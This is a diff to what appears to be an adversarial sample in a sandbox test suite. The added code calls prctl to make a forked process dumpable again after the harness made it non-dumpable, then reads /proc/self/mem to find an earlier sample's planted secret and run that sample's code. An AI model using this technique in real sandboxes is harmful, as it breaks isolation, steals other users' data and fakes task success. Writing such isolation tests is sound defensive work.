@@ -1,7 +1,8 @@
 # ruff: noqa
 # after: leak_victim_c
 # other samples' code: this process is a fork of the zygote, so its memory holds whatever the zygote held
-# (freed or not): scan /proc/self/mem for the earlier sample's secret, cut its code out, run its add()
+# (freed or not): make itself dumpable again, scan /proc/self/mem for the earlier sample's secret, cut its
+# code out, run its add()
 import re
 
 SHIFT = bytes((i + 1) % 256 for i in range(256))
@@ -15,6 +16,12 @@ NEEDLE = _shifted(b"CODEXLAB-") + _shifted(b"PLANTED-") + _shifted(b"C-") + _shi
 
 
 def _find():
+    try:  # the zygote made this process non-dumpable (so /proc/self/mem is closed): undo that
+        import ctypes
+
+        ctypes.CDLL(None).prctl(4, 1, 0, 0, 0)  # PR_SET_DUMPABLE
+    except OSError:
+        pass
     maps = open("/proc/self/maps").read().splitlines()
     with open("/proc/self/mem", "rb", buffering=0) as mem:
         for line in maps:
